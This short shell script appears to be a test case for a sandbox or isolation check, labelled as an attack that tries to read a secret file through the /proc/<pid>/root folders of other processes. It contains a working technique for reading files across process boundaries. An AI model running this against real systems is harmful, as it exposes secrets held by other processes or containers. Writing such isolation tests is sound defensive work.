# attack: read through the root folders of other processes
# outside: succeeds as root
echo tried
for p in /proc/[0-9]*; do cat "$p/root$SECRET" && exit 0; done
exit 1
